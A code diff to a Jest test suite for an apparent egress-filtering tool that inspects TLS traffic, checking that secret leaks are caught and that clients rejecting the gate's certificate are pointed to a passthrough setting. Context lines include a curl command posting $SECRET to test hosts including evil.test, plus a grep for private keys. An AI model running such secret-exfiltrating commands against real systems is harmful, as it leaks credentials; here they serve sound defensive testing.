@@ -2,6 +2,7 @@ import { createHash } from 'node:crypto'
 import { copyFileSync, mkdirSync, readdirSync, readFileSync, statSync, writeFileSync } from 'node:fs'
 import { join, resolve } from 'node:path'
 import { afterAll, beforeAll, describe, expect, jest, test } from '@jest/globals'
+import type { Summary } from '../../src/evidence/summary.ts'
 import { presentGates } from '../support/gates.ts'
 import { clientPrograms } from '../support/hosts/https-clients.ts'
 import { type Hit, type Internet, openInternet } from '../support/hosts/internet.ts'
@@ -59,7 +60,8 @@ ${more}`
   const seen = Object.fromEntries(names.map((name, i) => [name, (after[i] ?? []).slice(before[i]?.length)]))
   const evidence = main.outputs['evidence-path'] ?? ''
   const kept = readdirSync(evidence).map(name => readFileSync(join(evidence, name), 'utf8'))
-  return { main, said: main.log.join('\n'), seen: seen as Record<string, Hit[]>, kept: kept.join('\n') }
+  const summary = JSON.parse(readFileSync(join(evidence, 'summary.json'), 'utf8')) as Summary
+  return { main, said: main.log.join('\n'), seen: seen as Record<string, Hit[]>, kept: kept.join('\n'), summary }
 }
 
 // The same secret in a body, in a header, and over HTTP/2, by curl and by Node: to a host that is allowed.
@@ -89,7 +91,7 @@ suite('TLS inspection with pipelock', () => {
       if (line.includes('LOOK NOW'))
         keys = filesOf(temp).filter(path => readFileSync(path, 'utf8').includes('PRIVATE KEY'))
     }
-    const run = `grep -rlE "PRIVATE[ ]KEY" /bottle; ls -l /bottle; echo LOOK NOW; sleep 0.5${leaks}`
+    const run = `grep -rlE "PRIVATE[ ]KEY" /bottle || true; ls -l /bottle; echo LOOK NOW; sleep 0.5${leaks}`
     const { main, said, seen, kept } = await lived({ run, onLine: look })
     expect(said).toContain('reached api.test')
     expect(leaked(seen['api.test'])).toEqual([])
@@ -160,7 +162,10 @@ curl -sS -d "note=$SECRET" https://pinned.test/leak; curl -sS https://evil.test/
   })
 
   test('a client that accepts no other authority fails, and is told of `passthrough`', async () => {
-    const run = 'curl -sS --cacert certs/test-ca.pem https://pinned.test/pinned'
+    const own = ' --cacert certs/test-ca.pem https://pinned.test/pinned'
+    const node = `node -e 'require("https").get("https://pinned.test/pinned").on("error", () => process.exit(1))'`
+    const run = `set +e
+curl -sS --tls-max 1.2${own}; NODE_EXTRA_CA_CERTS=certs/test-ca.pem ${node}; curl -sS${own}`
     const [failed, passed] = [
       await lived({ run }),
       await lived({ run, tls: 'inspect: true, passthrough: [pinned.test]' }),
@@ -169,10 +174,11 @@ curl -sS -d "note=$SECRET" https://pinned.test/leak; curl -sS https://evil.test/
     expect(failed.seen['pinned.test']).toEqual([])
     const advice = "A client refused the gate's certificate for pinned.test: add pinned.test to egress.tls.passthrough."
     expect(failed.said).toContain(advice)
+    expect(failed.summary.distrust).toEqual([{ host: 'pinned.test', by: 'client', count: 3 }])
     expect(failed.main.summary).toContain('pinned.test to egress.tls.passthrough')
     expect(failed.main.outputs).toMatchObject({ 'blocked-count': '0', 'allowed-count': '0' })
     expect(passed.main.exitCode).toBe(0)
-    expect(passed.seen['pinned.test']?.map(hit => hit.url)).toEqual(['/pinned'])
+    expect(passed.seen['pinned.test']?.map(hit => hit.url)).toEqual(['/pinned', '/pinned', '/pinned'])
     expect(passed.said).not.toContain('egress.tls.passthrough')
   })
 
